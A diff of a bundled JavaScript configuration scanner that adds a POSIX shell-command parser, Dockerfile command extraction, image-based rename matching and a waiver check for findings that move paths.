@@ -33655,13 +33508,13 @@ function* outwards(subject) {
 const maxPairs = 10_000;
 /** Of the lines, but for the one with the name. */
 const leastShare = 0.5;
-const renamed_known = new WeakMap();
-/** Takes a thing whose name is gone for one whose name is new, if most of its lines are the same: as git does for files. */
+const known = new WeakMap();
+/** Takes a thing whose name is gone for one whose name is new, if most of its lines are the same, as git does for files, and it runs the same. */
 function headNames(pair) {
-    let name = renamed_known.get(pair);
+    let name = known.get(pair);
     if (name === undefined) {
         name = pair.base === null || pair.head === null ? (subject) => subject : namesBetween(pair.base, pair.head);
-        renamed_known.set(pair, name);
+        known.set(pair, name);
     }
     return name;
 }
@@ -33697,7 +33550,7 @@ function matches(gone, come) {
     const pairs = gone.flatMap((from, i) => come.map((to, j) => ({
         from,
         to,
-        share: from.within !== to.within ? 0 : share(lines.get(from) ?? [], lines.get(to) ?? [], 1),
+        share: from.within !== to.within || runsOther(from, to) ? 0 : share(lines.get(from) ?? [], lines.get(to) ?? [], 1),
         place: Math.abs(i - j),
     })));
     const alike = pairs.filter((pair) => pair.share >= leastShare).sort((a, b) => b.share - a.share || a.place - b.place);
@@ -33714,6 +33567,27 @@ function matches(gone, come) {
 }
 /** Whether two things of one name have most lines in common. */
 const isAlike = (a, b) => share(linesOf(a), linesOf(b), 0) >= leastShare;
+const running = new Set(['kubernetes', 'helm-template', 'compose']);
+/** With another name, and none of its images: whatever else is alike, other code would get what the first was granted. */
+function runsOther(from, to) {
+    if (!running.has(from.document.kind) || !running.has(to.document.kind))
+        return false;
+    const [before, after] = [imagesOf(from), imagesOf(to)];
+    return before.size > 0 && after.size > 0 && [...after].every((image) => !before.has(image));
+}
+const renamed_images = new WeakMap();
+/** Repositories, without tags. */
+function imagesOf(thing) {
+    const { document, span } = thing;
+    const inside = ({ span: { start, end } }) => span.start <= start && end <= span.end;
+    const found = renamed_images.get(thing) ??
+        new Set(document
+            .grains('imageReference')
+            .filter(inside)
+            .map(({ repository }) => repository.value));
+    renamed_images.set(thing, found);
+    return found;
+}
 /** How many lines of the longer are in both, `spare` of them not counted. */
 function share(a, b, spare) {
     const size = Math.max(a.length, b.length) - spare;
@@ -34675,6 +34549,12 @@ function suppress(compared, input) {
     }
     return { waived, unheeded: marked };
 }
+/** Whether a waiver of the policy covers the one by its path, and none the other. */
+const leavesWaiver = ({ waivers }, today) => (from, to) => {
+    const [before, after] = [from, to].map(({ document }) => document.text.path);
+    const covered = (path = '') => waivers.some((waiver) => waiver.path !== null && holds(waiver.until, today) && matchesGlob(waiver.rule, to.rule.id) && matchesGlob(waiver.path, path));
+    return before !== after && covered(before) && !covered(after);
+};
 function covers(waiver, { draft, status }, fingerprint, { today }) {
     if (!holds(waiver.until, today) || !matchesGlob(waiver.rule, draft.rule.id))
         return false;
@@ -34719,16 +34599,17 @@ const compareText = (a, b) => (a < b ? -1 : a > b ? 1 : 0);
 
 /**
  * What is in head and not in base is introduced, what is in both is existing, what is only in base is fixed.
+ * What moved out of the paths where it was let through, as `leaves` says, is introduced where it came to.
  * Equal findings are told apart by the lines around them, so that the copy that was added is the one that is introduced.
  */
-function compare(base, head, pairs, renames) {
+function compare(base, head, pairs, renames, leaves = () => false) {
     const introduced = new Set(head);
     const fixed = new Set(base);
     const existing = new Set();
     const settle = (from, to) => {
         fixed.delete(from);
         introduced.delete(to);
-        if (!isGraver(to.severity, from.severity) && !grantsMore(to, from))
+        if (!isGraver(to.severity, from.severity) && !grantsMore(to, from) && !leaves(from, to))
             existing.add(to);
     };
     const pairOf = new Map(pairs.map((pair) => [pair.base, pair]));
@@ -34814,7 +34695,7 @@ function withoutSuperseded(compared) {
     const [fixed, present] = [compared.filter(isFixed), compared.filter((finding) => !isFixed(finding))];
     for (const findings of [...byDocument(fixed), ...byDocument(present)]) {
         for (const group of one_fact_groupBy(findings, ({ draft: { span, field } }) => `${span.start}:${span.end}:${field}`)) {
-            for (const finding of one_fact_repeated(group))
+            for (const finding of repeated(group))
                 dropped.add(finding);
             for (const finding of group)
                 if (group.some((other) => speaksFor(other.draft, finding.draft)))
@@ -34839,7 +34720,7 @@ function one_fact_groupBy(compared, keyOf) {
     }
     return groups.values();
 }
-function* one_fact_repeated(group) {
+function* repeated(group) {
     const kept = new Map();
     for (const finding of group) {
         const { rule } = finding.draft;
@@ -34879,6 +34760,658 @@ function speaksFor(winner, loser) {
     return isGraver(winner.severity, loser.severity);
 }
 
+;// CONCATENATED MODULE: ./lib/documents/shell-words.js
+/** Deeper substitutions are skipped unread. */
+const maxDepth = 40;
+const isBlank = (char) => char === ' ' || char === '\t' || char === '\r' || char === '\0';
+const endsWord = (char) => isBlank(char) || char === '\n' || ';&|()<>'.includes(char);
+const isName = (char) => /\w/.test(char);
+/** A position in the script, shared by the readers of words and of lists. */
+class Cursor {
+    text;
+    locate;
+    at;
+    depth;
+    constructor(text, locate, depth = 0, at = 0) {
+        this.text = text;
+        this.locate = locate;
+        this.depth = depth;
+        this.at = at;
+    }
+    get char() {
+        return this.text[this.at] ?? '';
+    }
+    get done() {
+        return this.at >= this.text.length;
+    }
+    starts(prefix) {
+        return this.text.startsWith(prefix, this.at);
+    }
+    /** The offset behind the next `close`, or the end. */
+    behind(close, from = this.at) {
+        const found = this.text.indexOf(close, from);
+        return found < 0 ? this.text.length : found + close.length;
+    }
+    /** Skips blanks, NUL, and line breaks after a backslash. */
+    skipBlanks() {
+        for (; !this.done; this.at++) {
+            if (this.char === '\\' && /^\r?\n/.test(this.text.slice(this.at + 1, this.at + 3)))
+                this.at += this.text[this.at + 1] === '\r' ? 2 : 1;
+            else if (!isBlank(this.char))
+                return;
+        }
+    }
+}
+/** Reads one word; `operators` are taken as ordinary characters inside `[[ … ]]`. */
+class WordReader {
+    #cursor;
+    #readList;
+    #value = '';
+    #literal = true;
+    #quoted = false;
+    #commands = [];
+    constructor(cursor, readList) {
+        this.#cursor = cursor;
+        this.#readList = readList;
+    }
+    /** Null where no word starts. */
+    read() {
+        const cursor = this.#cursor;
+        const start = cursor.at;
+        while (!cursor.done) {
+            if (cursor.starts('<(') || cursor.starts('>(')) {
+                if (cursor.at > start)
+                    break;
+                this.#substitution(2);
+            }
+            else if (endsWord(cursor.char) && cursor.char !== '\0')
+                break;
+            else
+                this.#part();
+        }
+        if (cursor.at === start)
+            return null;
+        return {
+            value: this.#value,
+            span: { start: cursor.locate(start), end: cursor.locate(cursor.at) },
+            literal: this.#literal,
+            quoted: this.#quoted,
+            commands: this.#commands,
+            content: this.#content(start),
+        };
+    }
+    #content(start) {
+        const { text, at, locate } = this.#cursor;
+        const quote = text[start];
+        const inner = text.slice(start + 1, at - 1);
+        if ((quote !== "'" && quote !== '"') || at - start < 2 || text[at - 1] !== quote || inner.includes(quote))
+            return null;
+        return { text: inner, locate: (offset) => locate(start + 1 + offset) };
+    }
+    #part() {
+        const cursor = this.#cursor;
+        switch (cursor.char) {
+            case '\\':
+                this.#escape();
+                break;
+            case "'":
+                this.#single();
+                break;
+            case '"':
+                this.#double();
+                break;
+            case '$':
+                this.#dollar();
+                break;
+            case '`':
+                this.#backticks();
+                break;
+            case '\0':
+                cursor.at++;
+                break;
+            default:
+                this.#value += cursor.char;
+                cursor.at++;
+        }
+    }
+    #escape() {
+        const cursor = this.#cursor;
+        const next = cursor.text[cursor.at + 1] ?? '';
+        if (next === '\n')
+            cursor.at += 2;
+        else if (next === '\r' && cursor.text[cursor.at + 2] === '\n')
+            cursor.at += 3;
+        else {
+            this.#value += next;
+            cursor.at += 2;
+        }
+        cursor.at = Math.min(cursor.at, cursor.text.length);
+    }
+    #single() {
+        const cursor = this.#cursor;
+        const end = cursor.behind("'", cursor.at + 1);
+        const text = cursor.text.slice(cursor.at + 1, end);
+        this.#quoted = true;
+        this.#value += (text.endsWith("'") ? text.slice(0, -1) : text).replaceAll('\0', '');
+        cursor.at = end;
+    }
+    #double() {
+        const cursor = this.#cursor;
+        this.#quoted = true;
+        cursor.at++;
+        while (!cursor.done && cursor.char !== '"') {
+            const char = cursor.char;
+            if (char === '$')
+                this.#dollar();
+            else if (char === '`')
+                this.#backticks();
+            else if (char === '\\' && !/["\\$`\r\n]/.test(cursor.text[cursor.at + 1] ?? '')) {
+                this.#value += char;
+                cursor.at++;
+            }
+            else if (char === '\\')
+                this.#escape();
+            else {
+                if (char !== '\0')
+                    this.#value += char;
+                cursor.at++;
+            }
+        }
+        if (!cursor.done)
+            cursor.at++;
+    }
+    #dollar() {
+        const cursor = this.#cursor;
+        if (cursor.starts('$(('))
+            this.#take(cursor.behind('))'));
+        else if (cursor.starts('$('))
+            this.#substitution(2);
+        else if (cursor.starts('${{'))
+            this.#take(cursor.behind('}}'));
+        else if (cursor.starts('${'))
+            this.#parameter();
+        else if (cursor.starts("$'"))
+            this.#ansi();
+        else {
+            const start = cursor.at++;
+            if (/[@*#?$!\d-]/.test(cursor.char))
+                cursor.at++;
+            else
+                while (!cursor.done && isName(cursor.char))
+                    cursor.at++;
+            if (cursor.at > start + 1)
+                this.#literal = false;
+            this.#value += cursor.text.slice(start, cursor.at);
+        }
+    }
+    #ansi() {
+        const cursor = this.#cursor;
+        this.#quoted = true;
+        cursor.at += 2;
+        while (!cursor.done && cursor.char !== "'") {
+            if (cursor.char === '\\')
+                this.#escape();
+            else {
+                this.#value += cursor.char;
+                cursor.at++;
+            }
+        }
+        if (!cursor.done)
+            cursor.at++;
+    }
+    /** Takes the text up to `end` over as written. */
+    #take(end) {
+        const cursor = this.#cursor;
+        this.#literal = false;
+        this.#value += cursor.text.slice(cursor.at, end);
+        cursor.at = end;
+    }
+    /** `${…}` with quotes and nested braces. Commands in it (`${X:-$(curl …)}`) are rare and not read. */
+    #parameter() {
+        const { text, at: start } = this.#cursor;
+        let depth = 0;
+        for (let at = start; at < text.length; at++) {
+            const char = text[at];
+            if (char === '\\')
+                at++;
+            else if (char === '{')
+                depth++;
+            else if (char === '}' && --depth === 0) {
+                this.#take(at + 1);
+                return;
+            }
+        }
+        this.#take(text.length);
+    }
+    #substitution(openLength) {
+        const cursor = this.#cursor;
+        const start = cursor.at;
+        cursor.at += openLength;
+        this.#literal = false;
+        if (++cursor.depth > maxDepth)
+            cursor.at = cursor.text.length;
+        else
+            this.#commands.push(...this.#readList(cursor));
+        cursor.depth--;
+        this.#value += cursor.text.slice(start, cursor.at);
+    }
+    #backticks() {
+        const cursor = this.#cursor;
+        const start = cursor.at;
+        let close = start + 1;
+        while (close < cursor.text.length && cursor.text[close] !== '`')
+            close += cursor.text[close] === '\\' ? 2 : 1;
+        this.#literal = false;
+        if (cursor.depth < maxDepth)
+            this.#commands.push(...this.#readList(new Cursor(cursor.text.slice(0, close), cursor.locate, cursor.depth + 1, start + 1)));
+        cursor.at = Math.min(close + 1, cursor.text.length);
+        this.#value += cursor.text.slice(start, cursor.at);
+    }
+}
+
+;// CONCATENATED MODULE: ./lib/documents/shell.js
+
+const opening = new Set(['if', 'while', 'until', 'for', 'select', 'case', '{']);
+const shell_closing = new Set(['fi', 'done', 'esac', '}']);
+const passing = new Set(['then', 'else', 'elif', 'do', '!', 'time', 'coproc']);
+const redirection = /\d*(?:<<<|<<-|<<|<>|<&|<|>>|>\||>&|>|&>>|&>)/y;
+/**
+ * Splits a POSIX shell (or bash) script into simple commands. It is no shell: aliases, functions and values of variables are not known, and
+ * text that no shell would take is read as far as it goes. Time is linear in the text.
+ * @param locate gives the file's offset for an offset in the text; by default they are the same
+ */
+function parseShell(text, locate = 0) {
+    const place = typeof locate === 'number' ? (at) => at + locate : locate;
+    return new ListReader(new Cursor(text, place)).read(false);
+}
+const readList = (cursor) => new ListReader(cursor).read(true);
+/** Of a group that is piped on, only the last commands are kept. */
+const maxGroup = 50;
+class ListReader {
+    #cursor;
+    #commands = [];
+    #groups = [];
+    #heredocs = [];
+    #words = [];
+    #assignments = [];
+    #redirections = [];
+    #operator = '';
+    #pipedFrom = [];
+    /** The first command of the element that ended last: a command or a group. */
+    #elementStart = 0;
+    /** Redirections that come now are those of the group. */
+    #afterGroup = false;
+    #start = 0;
+    #end = 0;
+    constructor(cursor) {
+        this.#cursor = cursor;
+    }
+    /** With `nested`, up to the parenthesis that closes the substitution. */
+    read(nested) {
+        const cursor = this.#cursor;
+        while (!cursor.done) {
+            const before = cursor.at;
+            cursor.skipBlanks();
+            if (cursor.done)
+                break;
+            if (nested && cursor.char === ')' && this.#groups.at(-1)?.kind !== '(') {
+                cursor.at++;
+                break;
+            }
+            if (!this.#separator() && !this.#redirection())
+                this.#word();
+            if (cursor.at === before)
+                cursor.at++;
+        }
+        this.#finish();
+        return this.#commands;
+    }
+    #separator() {
+        const cursor = this.#cursor;
+        const { char } = cursor;
+        if (char === '#') {
+            const end = cursor.text.indexOf('\n', cursor.at);
+            cursor.at = end < 0 ? cursor.text.length : end;
+        }
+        else if (char === '\n') {
+            cursor.at++;
+            this.#finish();
+            this.#readHeredocs();
+        }
+        else if (this.#inTest() && '&|;()'.includes(char))
+            cursor.at++;
+        else if (char === '(')
+            this.#openParenthesis();
+        else if (char === ')') {
+            cursor.at++;
+            this.#finish();
+            this.#close('(');
+        }
+        else if (char === ';' || (char === '&' && !cursor.starts('&>')) || char === '|')
+            this.#controlOperator();
+        else
+            return false;
+        return true;
+    }
+    #inTest() {
+        return this.#words[0]?.value === '[[' && this.#words.at(-1)?.value !== ']]';
+    }
+    #controlOperator() {
+        const cursor = this.#cursor;
+        const operator = ['&&', '||', ';;&', ';;', ';&', '|&', '&', '|', ';'].find((each) => cursor.starts(each)) ?? ';';
+        cursor.at += operator.length;
+        const isPipe = operator === '|' || operator === '|&';
+        this.#finish();
+        this.#operator = isPipe ? '|' : operator === '&&' || operator === '||' || operator === '&' ? operator : ';';
+        this.#pipedFrom = isPipe ? this.#commands.slice(Math.max(this.#elementStart, this.#commands.length - maxGroup)) : [];
+        if (operator.length > 1 && operator.startsWith(';') && this.#groups.at(-1)?.kind === 'case')
+            this.#skipPattern();
+    }
+    #openParenthesis() {
+        const cursor = this.#cursor;
+        if (cursor.starts('((')) {
+            cursor.at = cursor.behind('))');
+        }
+        else if (this.#words.length > 0 || this.#assignments.length > 0) {
+            // A function's `name()`, or an array's `name=(a b)`: neither runs anything.
+            cursor.at = cursor.behind(')');
+            this.#words = [];
+        }
+        else {
+            cursor.at++;
+            this.#groups.push({ kind: '(', first: this.#commands.length });
+        }
+    }
+    /** Ends the innermost group: that of a parenthesis, or with `''` any other. What does not fit, as the `)` of a pattern, ends none. */
+    #close(kind) {
+        const group = this.#groups.at(-1);
+        if (!group || (group.kind === '(') !== (kind === '('))
+            return;
+        this.#groups.pop();
+        this.#elementStart = group.first;
+        this.#afterGroup = true;
+    }
+    #word() {
+        const cursor = this.#cursor;
+        const start = cursor.at;
+        const word = new WordReader(cursor, readList).read();
+        if (!word)
+            return;
+        if (this.#words.length === 0) {
+            if (this.#keyword(word))
+                return;
+            const assignment = this.#assignment(word, start);
+            if (assignment) {
+                this.#extend(word.span.start, word.span.end);
+                this.#assignments.push(assignment);
+                return;
+            }
+        }
+        this.#extend(word.span.start, word.span.end);
+        this.#words.push(word);
+        if (word.value === 'in' && this.#words.length === 3 && this.#words[0]?.value === 'case') {
+            this.#words = [];
+            this.#skipPattern();
+        }
+    }
+    #keyword(word) {
+        if (word.quoted || !word.literal || this.#assignments.length > 0)
+            return false;
+        if (passing.has(word.value))
+            return true;
+        if (word.value === 'function') {
+            this.#cursor.skipBlanks();
+            new WordReader(this.#cursor, readList).read();
+            return true;
+        }
+        if (shell_closing.has(word.value)) {
+            this.#close('');
+            return true;
+        }
+        if (!opening.has(word.value))
+            return false;
+        this.#groups.push({ kind: word.value, first: this.#commands.length });
+        return !['for', 'select', 'case'].includes(word.value);
+    }
+    #assignment(word, start) {
+        const match = /^([A-Za-z_]\w*)\+?=/.exec(word.value);
+        if (!match?.[1] || !this.#cursor.text.startsWith(match[1], start))
+            return null;
+        return { name: match[1], value: word.value.slice(match[0].length), span: word.span, commands: word.commands };
+    }
+    /** Past the patterns of one branch: `a | b)`. */
+    #skipPattern() {
+        const cursor = this.#cursor;
+        for (let first = true; !cursor.done; first = false) {
+            while (!cursor.done && /[\s\0]/.test(cursor.char))
+                cursor.at++;
+            const start = cursor.at;
+            const word = new WordReader(cursor, readList).read();
+            if (first && word?.value === 'esac') {
+                cursor.at = start;
+                return;
+            }
+            if (word)
+                continue;
+            if (cursor.done)
+                return;
+            const { char } = cursor;
+            cursor.at++;
+            if (char === ')')
+                return;
+        }
+    }
+    #redirection() {
+        const cursor = this.#cursor;
+        if (cursor.starts('<(') || cursor.starts('>('))
+            return false;
+        redirection.lastIndex = cursor.at;
+        const match = redirection.exec(cursor.text);
+        if (!match)
+            return false;
+        if (this.#inTest()) {
+            cursor.at += match[0].length;
+            return true;
+        }
+        const start = cursor.at;
+        cursor.at += match[0].length;
+        cursor.skipBlanks();
+        const target = new WordReader(cursor, readList).read();
+        if (!target)
+            return true;
+        const entry = { operator: match[0].replace(/^\d+/, ''), target, heredoc: null };
+        this.#extend(cursor.locate(start), target.span.end);
+        this.#redirections.push(entry);
+        if (entry.operator === '<<' || entry.operator === '<<-')
+            this.#heredocs.push(entry);
+        return true;
+    }
+    get #isEmpty() {
+        return this.#words.length + this.#assignments.length + this.#redirections.length === 0;
+    }
+    #extend(start, end) {
+        if (this.#isEmpty)
+            this.#start = start;
+        this.#end = end;
+    }
+    #readHeredocs() {
+        const cursor = this.#cursor;
+        for (const entry of this.#heredocs.splice(0)) {
+            const start = cursor.at;
+            let end = start;
+            while (!cursor.done) {
+                const feed = cursor.text.indexOf('\n', cursor.at);
+                const lineEnd = feed < 0 ? cursor.text.length : feed;
+                const line = cursor.text.slice(cursor.at, lineEnd).replace(/\r$/, '');
+                end = cursor.at;
+                cursor.at = Math.min(lineEnd + 1, cursor.text.length);
+                if ((entry.operator === '<<-' ? line.replace(/^\t+/, '') : line) === entry.target.value)
+                    break;
+                end = cursor.at;
+            }
+            entry.heredoc = { text: cursor.text.slice(start, end), locate: (offset) => cursor.locate(start + offset) };
+        }
+    }
+    /** Ends the command that is being read, if any. */
+    #finish() {
+        if (this.#isEmpty)
+            return;
+        if (this.#words.length + this.#assignments.length > 0 || !this.#afterGroup) {
+            this.#elementStart = this.#commands.length;
+            this.#commands.push({
+                words: this.#words,
+                assignments: this.#assignments,
+                redirections: this.#redirections,
+                span: { start: this.#start, end: this.#end },
+                operator: this.#commands.length === 0 ? '' : this.#operator,
+                pipedFrom: this.#pipedFrom,
+            });
+            this.#operator = ';';
+            this.#pipedFrom = [];
+            this.#afterGroup = false;
+        }
+        this.#words = [];
+        this.#assignments = [];
+        this.#redirections = [];
+    }
+}
+
+;// CONCATENATED MODULE: ./lib/documents/shell-commands.js
+
+/** For each: its options that take a value of their own, and how many words stand before the command. */
+const wrappers = new Map([
+    ['sudo', { valued: /^-[ugpCrtUTDRh]$|^--(?:user|group|prompt|chdir|host|role|type)$/, operands: 0 }],
+    ['doas', { valued: /^-[uC]$/, operands: 0 }],
+    ['env', { valued: /^-[uCS]$|^--(?:unset|chdir)$/, operands: 0 }],
+    ['nice', { valued: /^-n$/, operands: 0 }],
+    ['ionice', { valued: /^-[cnp]$/, operands: 0 }],
+    ['timeout', { valued: /^-[sk]$/, operands: 1 }],
+    ['xargs', { valued: /^-[InPLdEas]$/, operands: 0 }],
+    ['stdbuf', { valued: /^-[ioe]$/, operands: 0 }],
+    ['chroot', { valued: /^$/, operands: 1 }],
+    ['gosu', { valued: /^$/, operands: 1 }],
+    ['su-exec', { valued: /^$/, operands: 1 }],
+    ...['exec', 'command', 'builtin', 'nohup', 'setsid', 'time', 'busybox', 'eatmydata', 'retry', 'fakeroot'].map((name) => [name, { valued: /^-a$/, operands: 0 }]),
+]);
+const baseName = (word) => word.value.slice(word.value.lastIndexOf('/') + 1);
+const maxWrappers = 10;
+/** Null for a command that only sets variables. */
+function invocationOf(command) {
+    const taken = [];
+    let words = command.words;
+    for (;;) {
+        const [first] = words;
+        if (!first) {
+            const nameWord = taken.at(-1);
+            return nameWord ? { command, name: baseName(nameWord), nameWord, args: [], wrappers: taken.slice(0, -1) } : null;
+        }
+        const wrapper = first.literal && taken.length < maxWrappers ? wrappers.get(baseName(first)) : undefined;
+        if (!wrapper)
+            return { command, name: first.literal ? baseName(first) : '', nameWord: first, args: words.slice(1), wrappers: taken };
+        taken.push(first);
+        words = afterWrapper(words, wrapper);
+    }
+}
+function afterWrapper(words, { valued, operands }) {
+    let at = 1;
+    for (let left = operands; at < words.length; at++) {
+        const value = words[at]?.value ?? '';
+        if (value === '--') {
+            at += 1 + left;
+            break;
+        }
+        if (valued.test(value))
+            at++;
+        else if (!value.startsWith('-') && !/^[A-Za-z_]\w*=/.test(value) && left-- === 0)
+            break;
+    }
+    return words.slice(at);
+}
+const shells = /^(?:ba|da|a|z|k|mk|fi)?sh$/;
+/** Scripts in scripts in scripts are read, and no deeper. */
+const maxNesting = 5;
+const isShell = (name) => shells.test(name);
+/**
+ * All commands that the script holds, in the order of the text: those of substitutions, of `sh -c '…'`, of `eval '…'`
+ * and of here-documents that a shell reads, too.
+ */
+function* everyCommand(commands, nesting = 0) {
+    for (const command of commands) {
+        const invocation = invocationOf(command);
+        if (invocation)
+            yield invocation;
+        if (invocation?.name === 'find')
+            yield* startedByFind(invocation);
+        const parts = [...command.words, ...command.assignments, ...command.redirections.map((redirection) => redirection.target)];
+        for (const part of parts)
+            if (part.commands.length > 0)
+                yield* everyCommand(part.commands, nesting);
+        if (!invocation || nesting >= maxNesting)
+            continue;
+        for (const script of scriptsOf(invocation))
+            yield* everyCommand(parseShell(script.text, script.locate), nesting + 1);
+    }
+}
+/** `find … -exec program … ;` */
+function* startedByFind({ command, args }) {
+    for (const [at, { value }] of args.entries()) {
+        const started = /^-(?:exec|ok)(?:dir)?$/.test(value) ? invocationOf({ ...command, words: args.slice(at + 1) }) : null;
+        if (started)
+            yield started;
+    }
+}
+function scriptsOf({ command, name, args }) {
+    if (name === 'eval')
+        return args.flatMap((arg) => arg.content ?? []);
+    if (!isShell(name) && name !== 'su' && name !== 'runuser')
+        return [];
+    const at = args.findIndex((arg) => /^-[a-z]*c$/.test(arg.value));
+    if (at >= 0)
+        return [args[at + 1]?.content ?? []].flat();
+    return command.redirections.flatMap((redirection) => redirection.heredoc ?? []);
+}
+
+;// CONCATENATED MODULE: ./lib/documents/dockerfile-commands.js
+
+
+const dockerfile_commands_known = new WeakMap();
+const dockerfile_commands_parsed = new WeakMap();
+/** The commands of RUN, CMD, ENTRYPOINT and HEALTHCHECK at the top of their script; none where it is PowerShell, cmd or Python. */
+function shellCommands(instruction) {
+    let commands = dockerfile_commands_parsed.get(instruction);
+    if (commands === undefined) {
+        commands = dockerfile_commands_read(instruction);
+        dockerfile_commands_parsed.set(instruction, commands);
+    }
+    return commands;
+}
+/** All commands of the instruction, those inside substitutions and inner scripts too. */
+function invocations(instruction) {
+    let found = dockerfile_commands_known.get(instruction);
+    if (found === undefined) {
+        found = [...everyCommand(shellCommands(instruction))];
+        dockerfile_commands_known.set(instruction, found);
+    }
+    return found;
+}
+function dockerfile_commands_read(instruction) {
+    const { script, form, words, document } = instruction;
+    if (script)
+        return script.language === 'posix' ? parseShell(script.text, script.offset) : [];
+    if (form !== 'exec' || words.length === 0)
+        return [];
+    const values = words.map((word) => ({
+        value: word.value,
+        span: word.span,
+        literal: true,
+        quoted: true,
+        commands: [],
+        content: { text: document.text.value.slice(word.span.start + 1, word.span.end - 1), locate: (at) => word.span.start + 1 + at },
+    }));
+    const span = { start: values[0]?.span.start ?? 0, end: values.at(-1)?.span.end ?? 0 };
+    return [{ words: values, assignments: [], redirections: [], span, operator: '', pipedFrom: [] }];
+}
+
 ;// CONCATENATED MODULE: ./lib/documents/expression-tokens.js
 const expression_tokens_form = /\s+|([A-Za-z_][\w-]*)|'((?:[^']|'')*)'|([-+]?(?:0x[\da-fA-F]+|0o[0-7]+|(?:\d+\.?\d*|\.\d+)(?:[eE][-+]?\d+)?))|(&&|\|\||[=!<>]=|[()[\],.!<>*])/y;
 /** Splits an expression into tokens; null where it holds a character that the language does not know. */
@@ -34911,7 +35444,7 @@ const isOperand = (token) => token !== undefined && (token.kind === 'name' || to
 ;// CONCATENATED MODULE: ./lib/documents/expression.js
 
 /** Nesting that GitHub's own parser refuses. */
-const maxDepth = 50;
+const expression_maxDepth = 50;
 /** Characters of one expression that GitHub's own parser takes. */
 const maxLength = 21_000;
 /** From the loosest to the tightest. */
@@ -34960,7 +35493,7 @@ class Parser {
         let operator = this.#take(...operators)?.text;
         for (let length = 0; left !== null && operator !== undefined; length++) {
             // Comparisons nest to the left, one deeper each.
-            if (length > maxDepth)
+            if (length > expression_maxDepth)
                 return null;
             const operands = [left];
             let next = operator;
@@ -34977,7 +35510,7 @@ class Parser {
         return left;
     }
     #unary(depth) {
-        if (depth > maxDepth)
+        if (depth > expression_maxDepth)
             return null;
         const not = this.#take('!');
         if (not === undefined)
@@ -35224,185 +35757,6 @@ class Walk {
     }
 }
 
-;// CONCATENATED MODULE: ./lib/documents/workflow-expressions.js
-
-
-
-/** Every expression of a workflow, each with the step and the job that it stands in. A value behind an alias counts once for each of them. */
-function* workflowExpressions(workflow) {
-    const owner = { subject: workflow.subject, step: null, job: null, workflow, action: null };
-    yield* below(workflow.root, [], owner, new Set([...workflow.jobs.map((job) => job.node)]));
-    for (const job of workflow.jobs) {
-        const within = { ...owner, subject: job.subject, job };
-        yield* below(job.node, ['jobs', job.id], within, new Set(job.steps.map((step) => step.node)));
-        for (const [index, step] of job.steps.entries())
-            yield* below(step.node, ['jobs', job.id, 'steps', index], { ...within, subject: step.subject, step }, new Set());
-    }
-}
-function* actionExpressions(action) {
-    const owner = { subject: action.subject, step: null, job: null, workflow: null, action };
-    yield* below(action.root, [], owner, new Set(action.steps.map((step) => step.node)));
-    for (const [index, step] of action.steps.entries())
-        yield* below(step.node, ['runs', 'steps', index], { ...owner, subject: step.subject, step }, new Set());
-}
-/** `seen` starts with what is read on its own; a node that aliases bring twice is read once. */
-function* below(node, path, owner, seen) {
-    if (node.kind === 'scalar') {
-        yield* inScalar(node, path, owner);
-        return;
-    }
-    const children = node.kind === 'sequence'
-        ? node.items.map((item, index) => [index, item.value])
-        : [
-            ...node.entries.map(({ key, value }) => [key.string, value]),
-            ...node.merged.flatMap((map) => map.entries.map((entry) => [entry.key.string, entry.value])),
-        ];
-    for (const [key, child] of children) {
-        if (seen.has(child))
-            continue;
-        seen.add(child);
-        yield* below(child, [...path, key], owner, seen);
-    }
-}
-function* inScalar(scalar, path, owner) {
-    const fenced = scalar.string.includes('${{');
-    if (!fenced && path.at(-1) !== 'if')
-        return;
-    const { document } = owner.workflow ?? owner.action ?? {};
-    if (document === undefined)
-        return;
-    const placeOf = (part) => spanWithin(scalar, document.text, part);
-    if (!fenced) {
-        const expression = parseExpression(scalar.string);
-        yield { ...owner, span: scalar.span, document, scalar, text: scalar.string, expression, path, placeOf };
-        return;
-    }
-    for (const { span, text, expression } of fencesOf(scalar))
-        yield { ...owner, span: placeOf(span), document, scalar, text, expression, path, placeOf };
-}
-
-;// CONCATENATED MODULE: ./lib/documents/image.js
-const expressions = [
-    ['${{', '}}'],
-    ['{{', '}}'],
-    ['${', '}'],
-    ['$(', ')'],
-    ['<%', '%>'],
-];
-/** Stands for one character of a variable or a template; no reference holds it. */
-const hole = '\u0001';
-/** The text with every variable and template action (`$X`, `${X:-y}`, `{{ … }}`, `$(X)`, `%X%`) overwritten, at the same length. */
-function maskExpressions(text) {
-    if (!/[{$<%]/.test(text))
-        return text;
-    let masked = '';
-    const unclosed = new Set();
-    for (let at = 0; at < text.length;) {
-        const end = expressionEnd(text, at, unclosed);
-        masked += end > at ? hole.repeat(end - at) : (text[at] ?? '');
-        at = Math.max(end, at + 1);
-    }
-    return masked;
-}
-/** `unclosed` keeps the openings that nothing closes any more, so that each is searched for once. */
-function expressionEnd(text, at, unclosed) {
-    for (const [open, close] of expressions) {
-        if (!text.startsWith(open, at) || unclosed.has(open))
-            continue;
-        const end = text.indexOf(close, at + open.length);
-        if (end >= 0)
-            return end + close.length;
-        unclosed.add(open);
-    }
-    const variable = /\$[A-Za-z_]\w*|%[A-Za-z_]\w*%/y;
-    variable.lastIndex = at;
-    return variable.test(text) ? variable.lastIndex : at;
-}
-/** Holds a variable or a template action. */
-const isOpen = (text) => maskExpressions(text).includes(hole);
-const digestForm = /^[A-Za-z][A-Za-z0-9]*(?:[-_+.][A-Za-z][A-Za-z0-9]*)*:[0-9a-fA-F]{32,}$/;
-const pathForm = /^[A-Za-z0-9\u0001][A-Za-z0-9._\-/\u0001]*$/;
-const tagForm = /^[\w\u0001][\w.\-\u0001]*$/;
-const registryForm = /^(?:\[[0-9a-fA-F:.]+\]|[A-Za-z0-9\u0001][A-Za-z0-9.\-_\u0001]*)(?::[\d\u0001]+)?$/;
-/** A first component names a registry only if it has a dot or a port, or is `localhost`: else it is a Docker Hub user. */
-const isRegistry = (component) => /[.:]/.test(component) || component === 'localhost';
-/**
- * Splits a reference by the distribution grammar: `[domain[:port]/]path[:tag][@digest]`. Variables and template actions may stand in
- * any part and are kept as written. Null where the text is no reference. Upper case is let through: the registry refuses it, not the reader.
- */
-function parseImage(text, offset = 0) {
-    const masked = maskExpressions(text);
-    const part = (start, end) => ({
-        value: text.slice(start, end),
-        span: { start: offset + start, end: offset + end },
-    });
-    const digestAt = masked.indexOf('@');
-    const nameEnd = digestAt < 0 ? masked.length : digestAt;
-    if (digestAt >= 0 && !digestForm.test(masked.slice(digestAt + 1)) && !masked.includes(hole, digestAt))
-        return null;
-    const lastSlash = masked.lastIndexOf('/', nameEnd - 1);
